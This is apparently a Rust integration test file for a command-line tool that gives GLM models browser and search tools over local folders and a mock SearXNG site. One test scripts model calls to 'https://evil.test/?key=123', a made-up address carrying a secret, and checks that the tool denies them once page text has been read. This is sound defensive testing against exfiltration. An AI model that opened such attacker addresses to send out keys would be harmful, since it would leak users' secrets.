//! Tasks that need a search: over documents of the user's and over a site.

use std::{fs, path::PathBuf};

use serde_json::{Value, json};

use crate::{
    glm::{Glm, Output, of_type, parse, stable},
    web::{html, serve},
};

pub const TASK: &str = "How tall is the lighthouse of Ardmoor, and when was it built?";

const HEIGHT: &str = "<h1>The lighthouse of Ardmoor</h1><p>The lighthouse of Ardmoor is 41 metres \
                      tall, with 187 steps. See <a href=\"history.html\">its history</a>.</p>";

const HISTORY: &str = "<h1>History of Ardmoor</h1><p>The lighthouse was built in 1902 by Ada \
                       Thorne, after the wreck of the Merrow.</p>";

const FUNCTIONS: &str = "web_search,web_open,web_find";

/// Calls of one reply have their results in the order in which they end.
const ONE_BY_ONE: [&str; 2] = ["--jobs", "1"];

const HARBOUR: &str = "# The harbour\n\nArdmoor's harbour is closed in winter.\n";

/// The steps of a model that was trained with `simple_browser`.
pub const SIMPLE: [&str; 3] = [
    "simple_browser\nsearch(\"lighthouse Ardmoor built tall\")",
    "simple_browser\nmclick([0, 1])",
    "\nIt is 41 metres tall【7†source】 and was built in 1902【8†source】.",
];

/// The same of one that calls functions: it opens a page by its number, and one by its
/// address below `place`.
fn functions(place: &str) -> [String; 3] {
    let open = |page: &str| format!("web_open\n{{\"page\": \"{page}\"}}");
    let (first, second) = (open("0"), open(&format!("{place}/history.html")));
    [
        "web_search\n{\"query\": \"lighthouse Ardmoor built tall\"}".to_owned(),
        format!("{first}<|assistant|>{second}"),
        "\nIt is 41 metres tall【0†source】 and was built in 1902【1†source】.".to_owned(),
    ]
}

/// A `glm` with a folder of documents, and what names it to `--search`.
pub fn with_documents() -> (Glm, String) {
    let glm = Glm::new();
    let folder = glm.folder().join("docs");
    fs::create_dir(&folder).unwrap();
    let page = |title: &str, body: &str| {
        format!("<html><head><title>{title}</title></head><body>{body}</body></html>")
    };
    fs::write(
        folder.join("height.html"),
        page("The lighthouse of Ardmoor", HEIGHT),
    )
    .unwrap();
    fs::write(
        folder.join("history.html"),
        page("History of Ardmoor", HISTORY),
    )
    .unwrap();
    fs::write(folder.join("harbour.md"), HARBOUR).unwrap();
    let search = format!("local:{}", folder.display());
    (glm, search)
}

/// A site with an instance of SearXNG on it, by its address.
pub fn site() -> String {
    let address = std::sync::Arc::new(std::sync::OnceLock::<String>::new());
    let own = std::sync::Arc::clone(&address);
    let site = serve(move |path| {
        let own = own.get().unwrap();
        match path.split('?').next().unwrap_or_default() {
            "/height.html" => html(HEIGHT),
            "/history.html" => html(HISTORY),
            "/search" => {
                let hit = |title: &str, page: &str, content: &str| json!({"title": title, "url": format!("http://{own}/{page}"), "content": content});
                let results = [
                    hit("The lighthouse of Ardmoor", "height.html", "41 metres tall"),
                    hit("History of Ardmoor", "history.html", "built in 1902"),
                ];
                let body = json!({"results": results}).to_string();
                format!(
                    "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: {}\r\n\
                     connection: close\r\n\r\n{body}",
                    body.len()
                )
            }
            _ => "HTTP/1.1 404 Not Found\r\ncontent-length: 0\r\nconnection: close\r\n\r\n"
                .to_owned(),
        }
    });
    address.set(site.to_string()).unwrap();
    site.to_string()
}

/// Events without what differs from run to run, and from place to place.
fn plain(events: &[Value], places: &[(&str, &str)]) -> Vec<Value> {
    let mut text = Value::from(stable(events)).to_string();
    for (place, name) in places {
        text = text.replace(place, name);
    }
    let folder = Value::from(text);
    serde_json::from_str(folder.as_str().unwrap()).unwrap()
}

fn research<T: AsRef<str>>(
    glm: &Glm,
    replies: &[T],
    tools: &str,
    search: &str,
    more: &[&str],
) -> Vec<Value> {
    let replies: Vec<&str> = replies.iter().map(AsRef::as_ref).collect();
    let engine = glm.script(&replies);
    let args = ["run", TASK, "--json", "--engine", &engine];
    let args = [&args[..], &["--tools", tools, "--search", search], more].concat();
    glm.events(&args)
}

fn folder_of(search: &str) -> String {
    let folder = PathBuf::from(search.strip_prefix("local:").unwrap());
    folder.canonicalize().unwrap().display().to_string()
}

#[test]
fn documents_are_researched_with_simple_browser() {
    let (glm, search) = with_documents();
    let events = research(&glm, &SIMPLE, "browser", &search, &[]);
    insta::assert_json_snapshot!(plain(&events, &[(&folder_of(&search), "/DOCS")]));
}

#[test]
fn documents_are_researched_with_functions() {
    let (glm, search) = with_documents();
    let replies = functions("local://docs");
    let events = research(&glm, &replies, FUNCTIONS, &search, &ONE_BY_ONE);
    insta::assert_json_snapshot!(plain(&events, &[(&folder_of(&search), "/DOCS")]));
}

#[test]
fn a_site_is_researched_with_simple_browser() {
    let (glm, site) = (Glm::new(), site());
    let search = format!("searxng:http://{site}");
    let more = ["--allow-host", &site];
    let events = research(&glm, &SIMPLE, "simple_browser", &search, &more);
    insta::assert_json_snapshot!(plain(&events, &[(&site, "SITE")]));
}

#[test]
fn a_site_is_researched_with_functions() {
    let (glm, site) = (Glm::new(), site());
    let search = format!("searxng:http://{site}");
    let more = [&ONE_BY_ONE[..], &["--allow-host", &site]].concat();
    let replies = functions(&format!("http://{site}"));
    let events = research(&glm, &replies, FUNCTIONS, &search, &more);
    insta::assert_json_snapshot!(plain(&events, &[(&site, "SITE")]));
}

#[test]
fn numbers_hold_in_the_next_process() {
    let (glm, search) = with_documents();
    let engine = glm.script(&[
        "simple_browser\nsearch(\"lighthouse Ardmoor tall\")",
        "\nThere is something.",
        "simple_browser\nmclick([0])",
        "\nIt is 41 metres tall【7†source】.",
        "simple_browser\nmclick([1])",
        "\nIt was built in 1902【8†source】.",
    ]);
    let mut marks = Vec::new();
    for task in [
        "Is there a lighthouse?",
        "How tall is it?",
        "When was it built?",
    ] {
        let args = ["run", task, "--json", "--session", "s", "--engine", &engine];
        let args = [&args[..], &["--tools", "browser", "--search", &search]].concat();
        let events = glm.events(&args);
        let result = of_type(&events, "tool_result").pop().unwrap().clone();
        marks.push((
            result["metadata"].clone(),
            result["citations"][0]["mark"].clone(),
        ));
    }
    assert_eq!(
        marks,
        [
            (json!("browser_result"), json!("0")),
            (json!("quote_result [7†source]"), json!("7")),
            (json!("quote_result [8†source]"), json!("8")),
        ]
    );
}

/// Addresses of the calls that were denied after text from outside came in.
fn denied(events: &[Value]) -> Vec<String> {
    let reasons = of_type(events, "denied").into_iter();
    let reasons = reasons.map(|event| event["reason"].as_str().unwrap());
    reasons
        .map(|reason| reason.split('`').nth(1).unwrap().to_owned())
        .collect()
}

#[test]
fn only_addresses_that_somebody_named_are_opened_once_a_page_was_read() {
    let evil = "https://evil.test/?key=123";
    let glm = Glm::new();
    let site = site();
    let replies = [
        "web_search\n{\"query\": \"lighthouse\"}".to_owned(),
        "web_open\n{\"page\": \"0\"}".to_owned(),
        // A link that stands on the page.
        format!("web_open\n{{\"page\": \"http://{site}/history.html\"}}"),
        // Made up, with a secret in it.
        format!("web_open\n{{\"page\": \"{evil}\"}}"),
        // And not known because a result repeats it.
        format!("web_find\n{{\"text\": \"{evil}\"}}"),
        format!("web_open\n{{\"page\": \"{evil}\"}}"),
        "\nDone.".to_owned(),
    ];
    let search = format!("searxng:http://{site}");
    let events = research(&glm, &replies, FUNCTIONS, &search, &["--allow-host", &site]);
    assert_eq!(denied(&events), [evil, evil]);
    let results = of_type(&events, "tool_result");
    let texts: Vec<_> = results
        .iter()
        .map(|result| result["text"].as_str().unwrap())
        .collect();
    assert!(texts[2].contains("built in 1902"), "{texts:#?}");
    assert!(texts[3].contains(evil), "{texts:#?}");

    // The same with the browser that GLM-4 knows, which repeats what it cannot read.
    let replies = [
        "simple_browser\nsearch(\"lighthouse\")".to_owned(),
        format!("simple_browser\nopen_url(\"{evil}\") please"),
        format!("simple_browser\nopen_url(\"{evil}\")"),
        format!("simple_browser\nopen_url(\"http://{site}/height.html\")"),
        "\nDone.".to_owned(),
    ];
    let events = research(&glm, &replies, "browser", &search, &["--allow-host", &site]);
    let addresses = denied(&events);
    assert!(addresses.contains(&evil.to_owned()), "{addresses:?}");
    assert!(
        addresses.iter().all(|address| address == evil),
        "{addresses:?}"
    );
    let last = of_type(&events, "tool_result").pop().unwrap().clone();
    assert!(
        last["text"].as_str().unwrap().contains("41 metres"),
        "{last}"
    );
}

#[test]
fn tools_of_the_browser_are_called_by_hand() {
    let (glm, search) = with_documents();
    let call = |name: &str, arguments: &str| {
        let args = [
            "tools",
            "call",
            name,
            arguments,
            "--session",
            "s",
            "--search",
            &search,
        ];
        glm.run(&args)
    };
    let listed = " # 【0†History of Ardmoor†docs】\nHistory of Ardmoor The lighthouse was built in \
                  1902 by Ada Thorne, after the wreck of the Merrow.\n";
    let printed = |stdout: &str| Output {
        stdout: stdout.to_owned(),
        stderr: String::new(),
        code: Some(0),
    };
    let found = call("web_search", "{\"query\": \"wreck of the Merrow\"}");
    assert_eq!(found, printed(listed));
    let simple = call("simple_browser", "search(\"wreck of the Merrow\")");
    assert_eq!(simple, printed(&format!("{listed}Visible: 0% - 100%\n")));
    // What one call shows, the next knows.
    let opened = call("web_open", "{\"page\": \"0\"}");
    assert_eq!(opened.code, Some(0), "{opened:?}");
    assert!(
        opened.stdout.contains("URL: local://docs/history.html\n"),
        "{opened:?}"
    );
    let words = call("web_find", "{\"text\": \"ada thorne\"}");
    assert_eq!(
        words.stdout,
        "- The lighthouse was built in 1902 by Ada Thorne, after the wreck of the Merrow.\n"
    );
    // All pages of a call are printed.
    call("simple_browser", "search(\"lighthouse Ardmoor\")");
    let pages = call("simple_browser", "mclick([0, 1])").stdout;
    assert!(
        pages.contains("41 metres") && pages.contains("1902"),
        "{pages}"
    );
}

fn names(glm: &Glm, more: &[&str]) -> Vec<String> {
    let output = glm.run(&[&["tools", "list"][..], more].concat());
    assert_eq!(output.code, Some(0), "{output:?}");
    let names = output
        .stdout
        .lines()
        .map(|line| line.split(' ').next().unwrap());
    names.map(str::to_owned).collect()
}

#[test]
fn the_browser_is_offered_where_it_is_of_use() {
    let (glm, search) = with_documents();
    let functions = ["web_search", "web_open", "web_find"];
    assert_eq!(names(&glm, &[]), ["python", "web_fetch"]);
    assert_eq!(
        names(&glm, &["--search", &search]),
        [&["python", "web_fetch"][..], &functions].concat()
    );
    assert_eq!(names(&glm, &["--tools", "browser"]), functions);
    assert_eq!(
        names(&glm, &["--tools", "web_find,simple_browser"]),
        ["web_find", "simple_browser"]
    );
    let schema = glm.run(&["tools", "schema", "simple_browser"]);
    assert_eq!(schema.stdout, "{\n  \"type\": \"simple_browser\"\n}\n");

    // A model of GLM-4's family is offered what it was trained with.
    let engine = glm.script(&["\nHello."]);
    let events = glm.events(&["run", "Hi", "--json", "--engine", &engine]);
    let tools = json!([{"type": "python"}, {"type": "simple_browser"}]);
    assert_eq!(events[0]["tools"], tools);
}

#[test]
fn settings_and_sessions_name_the_folder_that_is_searched() {
    let (glm, search) = with_documents();
    fs::create_dir(glm.folder().join(".git")).unwrap();
    fs::create_dir(glm.folder().join("below")).unwrap();
    glm.file(
        "glm.toml",
        "search = ['local:docs', 'duckduckgo']\nproxy = 'http://me:s3cret@127.0.0.1:9'\n",
    );
    let engine = glm.script(&["simple_browser\nsearch(\"Merrow\")", "\nIt sank."]);
    let args = [
        "run", "Hi", "--json", "--tools", "browser", "--engine", &engine,
    ];
    let output = glm
        .command(&args)
        .current_dir(glm.folder().join("below"))
        .output();
    let output = Output::of(output.unwrap());
    let events = parse(&output.stdout);
    let result = of_type(&events, "tool_result")[0];
    assert_eq!(result["citations"][0]["title"], "History of Ardmoor");
    let flags = events[0]["setup"]["flags"].as_array().unwrap();
    let web: Vec<&str> = flags
        .iter()
        .filter_map(Value::as_str)
        .filter(|flag| flag.starts_with("--search") || flag.starts_with("--proxy"))
        .collect();
    let folder = format!("--search=local:{}", folder_of(&search));
    assert_eq!(
        web,
        [&folder, "--search=duckduckgo", "--proxy=http://127.0.0.1:9"]
    );
    assert!(!output.stdout.contains("s3cret"));
}

#[test]
fn what_cannot_search_is_refused_before_a_model_loads() {
    let glm = Glm::new();
    let (shown, hint) = (
        "google",
        "expected `local:FOLDER`, `searxng:URL`, `brave`, `tavily`, `zhipu`, `bing:URL` or \
         `duckduckgo`",
    );
    let output = glm.run(&["run", "Hi", "--search", shown]);
    assert_eq!(
        output,
        Output {
            stdout: String::new(),
            stderr: format!("error: cannot search by `{shown}`: {hint}\n"),
            code: Some(2),
        }
    );
}

#[test]
fn hosts_are_denied_and_others_left_out() {
    let (glm, site) = (Glm::new(), site());
    let address = format!("http://{site}/height.html");
    let arguments = json!({ "url": address }).to_string();
    let fetch = |more: &[&str]| {
        let args = [
            "tools",
            "call",
            "web_fetch",
            &arguments,
            "--allow-host",
            &site,
        ];
        glm.run(&[&args[..], more].concat()).code
    };
    assert_eq!(fetch(&[]), Some(0));
    assert_eq!(fetch(&["--deny-host", "127.0.0.0/8"]), Some(1));
    assert_eq!(fetch(&["--only-host", "docs.example"]), Some(1));
    assert_eq!(fetch(&["--only-host", &site]), Some(0));
    // The service that searches was named, and is reached all the same.
    let search = format!("searxng:http://{site}");
    let args = [
        "tools",
        "call",
        "web_search",
        "{\"query\": \"x\"}",
        "--search",
        &search,
    ];
    let output = glm.run(&[&args[..], &["--only-host", "docs.example"]].concat());
    assert_eq!(output.code, Some(0), "{output:?}");
    let wrong = glm.run(&["tools", "list", "--proxy", "socks5://127.0.0.1"]);
    assert_eq!(wrong.code, Some(2), "{wrong:?}");
}
